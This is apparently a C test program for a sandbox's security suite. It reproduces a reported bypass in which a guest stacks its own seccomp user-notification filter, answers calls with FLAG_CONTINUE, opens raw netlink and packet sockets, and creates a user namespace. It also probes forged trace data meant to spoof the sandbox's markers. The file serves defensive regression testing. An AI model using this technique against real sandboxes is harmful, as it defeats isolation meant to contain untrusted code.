/* A root guest stacks seccomp filters of its own over the Sentry's (test_guest_filters.py).
 *
 *   guest_filters attack
 *     finding 5 of issue 10 as reported: a filter returning SECCOMP_RET_USER_NOTIF whose own
 *     listener thread answers every call with FLAG_CONTINUE, then NETLINK_AUDIT,
 *     NETLINK_NETFILTER and AF_PACKET sockets, and clone3(CLONE_NEWUSER|CLONE_NEWNET) whose
 *     child opens an AF_PACKET socket.
 *   guest_filters matrix NR...
 *     for each action and each NR (all arguments 0) and a few probes with real arguments, a
 *     forked child installs a filter returning that action for that number alone and makes
 *     the call; one line "ACTION CALL OUTCOME" each, OUTCOME being r=ok, e=ERRNAME or sig=N.
 *     Action "none" installs no filter: the Sentry's answer alone.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/netlink.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <arpa/inet.h>
#include <linux/if_ether.h>

#include "oracle.h"

#define SENTRY_TRAP_DATA 0x5E17 /* edgevisor/platform/ptrace.py: a guest may forge it */
#define STRICT_TRAP_DATA 0x5E5C /* edgevisor/platform/strict.py: and this one */

static long load(struct sock_filter *f, unsigned short n, unsigned flags) {
    struct sock_fprog prog = {n, f};
    return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog);
}

/* `action` for syscall `nr` on x86_64, ALLOW for anything else. */
static long only(long nr, uint32_t action, unsigned flags) {
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 0, 3),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (uint32_t)nr, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, action),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    return load(f, sizeof f / sizeof *f, flags);
}

static const char *outcome(long r) {
    char *s = scratch();
    if (r < 0) snprintf(s, 96, "e=%s", errname(errno));
    else snprintf(s, 96, "r=ok");
    return s;
}

/* ---- attack ------------------------------------------------------------------------- */

static int listener = -1;
static int handover[2];

static void *answer_continue(void *unused) {
    (void)unused;
    if (read(handover[0], &listener, sizeof listener) != sizeof listener) return NULL;
    for (;;) {
        struct seccomp_notif req;
        struct seccomp_notif_resp resp;
        memset(&req, 0, sizeof req);
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) continue;
        memset(&resp, 0, sizeof resp);
        resp.id = req.id;
        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
    return NULL;
}

static int attack(void) {
    /* USER_NOTIF for the calls the Sentry decides, ALLOW for the rest. */
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_socket, 3, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_clone3, 2, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 1, 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
    };
    /* The thread exists before the filter: glibc makes threads with clone3. */
    pthread_t t;
    if (pipe(handover) || pthread_create(&t, NULL, answer_continue, NULL)) die("thread");
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)) die("no_new_privs");
    long fd = load(f, sizeof f / sizeof *f, SECCOMP_FILTER_FLAG_NEW_LISTENER);
    say("listener %s", outcome(fd));
    int number = fd;
    if (write(handover[1], &number, sizeof number) != sizeof number) die("handover");
    say("netlink_audit %s", outcome(socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT)));
    say("netlink_netfilter %s", outcome(socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER)));
    say("packet %s", outcome(socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))));
    struct clone_args args;
    memset(&args, 0, sizeof args);
    args.flags = CLONE_NEWUSER | CLONE_NEWNET;
    args.exit_signal = SIGCHLD;
    long pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0) {
        /* In a new user namespace: full capabilities there, and a packet socket. */
        _exit(socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)) >= 0 ? 42 : 43);
    }
    if (pid < 0) {
        say("clone3 %s", outcome(pid));
    } else {
        int status;
        waitpid(pid, &status, 0);
        say("clone3 r=ok child_packet=%s",
            WIFEXITED(status) && WEXITSTATUS(status) == 42 ? "yes" : "no");
    }
    return 0;
}

/* ---- matrix ------------------------------------------------------------------------- */

struct action {
    const char *name;
    int install;
    uint32_t ret;
};

static const struct action actions[] = {
    {"none", 0, 0},
    {"kill_process", 1, SECCOMP_RET_KILL_PROCESS},
    {"kill_thread", 1, SECCOMP_RET_KILL_THREAD},
    {"trap", 1, SECCOMP_RET_TRAP},
    {"errno", 1, SECCOMP_RET_ERRNO | EXDEV},
    {"user_notif", 1, SECCOMP_RET_USER_NOTIF},
    {"trace", 1, SECCOMP_RET_TRACE | 0x1234},
    {"trace_forged", 1, SECCOMP_RET_TRACE | SENTRY_TRAP_DATA},
    {"trace_strict_forged", 1, SECCOMP_RET_TRACE | STRICT_TRAP_DATA},
    {"log", 1, SECCOMP_RET_LOG},
    {"allow", 1, SECCOMP_RET_ALLOW},
};

static long probe(const char *call, long nr) {
    if (!strcmp(call, "netlink_audit")) return socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT);
    if (!strcmp(call, "packet")) return socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (!strcmp(call, "slabinfo")) return openat(AT_FDCWD, "/proc/slabinfo", O_RDONLY);
    return syscall(nr, 0, 0, 0, 0, 0, 0);
}

static void one(const struct action *a, const char *call, long nr) {
    pid_t pid = fork();
    if (pid < 0) die("fork");
    if (pid == 0) {
        if (a->install && only(nr, a->ret, 0) < 0) die("seccomp");
        long r = probe(call, nr);
        say("%s %s %s", a->name, call, outcome(r));
        _exit(0);
    }
    int status;
    if (waitpid(pid, &status, 0) < 0) die("waitpid");
    if (WIFSIGNALED(status)) say("%s %s sig=%d", a->name, call, WTERMSIG(status));
}

static int matrix(int argc, char **argv) {
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)) die("no_new_privs");
    for (size_t i = 0; i < sizeof actions / sizeof *actions; i++) {
        one(&actions[i], "netlink_audit", SYS_socket);
        one(&actions[i], "packet", SYS_socket);
        one(&actions[i], "slabinfo", SYS_openat);
        for (int j = 0; j < argc; j++) one(&actions[i], argv[j], atol(argv[j]));
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 2 && !strcmp(argv[1], "attack")) return attack();
    if (argc >= 2 && !strcmp(argv[1], "matrix")) return matrix(argc - 2, argv + 2);
    say("usage: guest_filters attack | matrix NR...");
    return 2;
}
